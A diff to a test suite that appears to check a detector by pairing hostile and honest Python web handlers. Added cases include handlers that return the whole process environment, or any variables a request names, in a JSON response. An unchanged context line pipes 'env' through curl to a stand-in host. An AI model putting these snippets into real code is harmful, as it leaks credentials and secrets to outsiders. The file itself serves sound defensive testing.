@@ -240,6 +240,23 @@ describe('the checks tell apart', () => {
       },
     ],
     [
+      'the environment among other things',
+      {
+        hostile: handler('os', 'return web.json_response({"a": {"b": dict(os.environ)}})'),
+        honest: handler('os', 'return web.json_response({"a": {"b": os.environ.get("CUDA_VISIBLE_DEVICES")}})'),
+      },
+    ],
+    [
+      'variables that a request names',
+      {
+        hostile: handler(
+          'os',
+          'return web.json_response({name: os.environ.get(name) for name in await request.json()})',
+        ),
+        honest: handler('os', 'return web.json_response({**await request.json(), "a": os.environ.get("HOST")})'),
+      },
+    ],
+    [
       'the environment for a program',
       {
         hostile: inNode('import subprocess', 'subprocess.run("env | curl -d @- https://e.example/", shell=True)'),
